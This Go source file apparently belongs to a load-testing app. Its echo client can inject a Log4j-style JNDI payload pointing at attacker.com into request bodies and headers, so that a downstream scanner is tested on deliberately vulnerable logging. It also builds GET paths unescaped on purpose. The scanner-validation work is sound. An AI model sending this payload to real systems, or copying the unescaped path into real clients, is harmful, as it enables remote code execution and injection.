// Package echo dispatches probe requests to the downstream echo service.
// The service is a deliberately vulnerable test target; requests can carry
// a well-known exploit-pattern payload to validate downstream log-based
// vulnerability scanning.
package echo

import (
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"strings"
	"time"

	"go.uber.org/zap"

	"github.com/mabu-ibm/loadtest-app/internal/metrics"
)

// ProbePayload is the fixed Log4j-style probe string. It is injected into
// the message and a custom header so the downstream service logs it.
const ProbePayload = "${jndi:ldap://attacker.com/evil}"

// ProbeHeader carries the probe string when injection is enabled.
const ProbeHeader = "X-Vulnerable-Header"

const userAgent = "LoadTestApp/1.0"

// Request describes one echo dispatch. Immutable.
type Request struct {
	Message     string `json:"message"`
	Method      string `json:"method"`
	InjectProbe bool   `json:"vulnerable_payload"`
}

// Result classifies the downstream response. Call never fails with a Go
// error; transport and HTTP failures are reported here.
type Result struct {
	Success     bool        `json:"success"`
	Response    interface{} `json:"response,omitempty"`
	StatusCode  int         `json:"status_code,omitempty"`
	Method      string      `json:"method,omitempty"`
	InjectProbe bool        `json:"vulnerable_payload"`
	Error       string      `json:"error,omitempty"`
	ServiceURL  string      `json:"service_url,omitempty"`
}

// Client calls the downstream echo service.
type Client struct {
	baseURL    string
	httpClient *http.Client
	registry   *metrics.Registry
	logger     *zap.Logger
}

func NewClient(baseURL string, timeout time.Duration, registry *metrics.Registry, logger *zap.Logger) *Client {
	return &Client{
		baseURL:    strings.TrimRight(baseURL, "/"),
		httpClient: &http.Client{Timeout: timeout},
		registry:   registry,
		logger:     logger,
	}
}

// Call sends one request to the echo service and classifies the outcome.
// Exactly one of the echo counters is incremented per call.
func (c *Client) Call(req Request) Result {
	method := strings.ToUpper(req.Method)
	if method == "" {
		method = http.MethodPost
	}

	message := req.Message
	header := http.Header{}
	header.Set("Content-Type", "application/json")
	header.Set("User-Agent", userAgent)

	if req.InjectProbe {
		// Logged verbatim by the echo service, which triggers the
		// vulnerability the downstream scanner is expected to flag.
		header.Set(ProbeHeader, ProbePayload)
		message = fmt.Sprintf("%s - %s", message, ProbePayload)
	}

	httpReq, err := c.buildRequest(method, message)
	if err != nil {
		c.registry.IncEchoFailures()
		return Result{Success: false, Error: err.Error(), ServiceURL: c.baseURL}
	}
	httpReq.Header = header

	resp, err := c.httpClient.Do(httpReq)
	if err != nil {
		c.registry.IncEchoFailures()
		c.logger.Error("Echo service request failed",
			zap.String("url", c.baseURL),
			zap.Error(err),
		)
		return Result{Success: false, Error: err.Error(), ServiceURL: c.baseURL}
	}
	defer resp.Body.Close()

	if resp.StatusCode < 200 || resp.StatusCode > 299 {
		c.registry.IncEchoFailures()
		return Result{
			Success:    false,
			Error:      fmt.Sprintf("HTTP %d", resp.StatusCode),
			StatusCode: resp.StatusCode,
		}
	}

	c.registry.IncEchoRequests()
	return Result{
		Success:     true,
		Response:    parseBody(resp.Body),
		StatusCode:  resp.StatusCode,
		Method:      method,
		InjectProbe: req.InjectProbe,
	}
}

// buildRequest shapes the outbound request. POST carries a JSON body; GET
// embeds the message directly in the URL path. The GET path is intentionally
// unescaped: this client is a security test fixture, not a general HTTP
// client.
func (c *Client) buildRequest(method, message string) (*http.Request, error) {
	if method == http.MethodPost {
		body, err := json.Marshal(map[string]string{
			"message":    message,
			"user_agent": userAgent,
		})
		if err != nil {
			return nil, err
		}
		return http.NewRequest(http.MethodPost, c.baseURL+"/echo", bytes.NewReader(body))
	}
	return http.NewRequest(http.MethodGet, c.baseURL+"/echo/"+message, nil)
}

// parseBody returns the response body as decoded JSON when possible,
// otherwise as a raw string.
func parseBody(body io.Reader) interface{} {
	data, err := io.ReadAll(body)
	if err != nil {
		return nil
	}
	var decoded interface{}
	if err := json.Unmarshal(data, &decoded); err != nil {
		return string(data)
	}
	return decoded
}
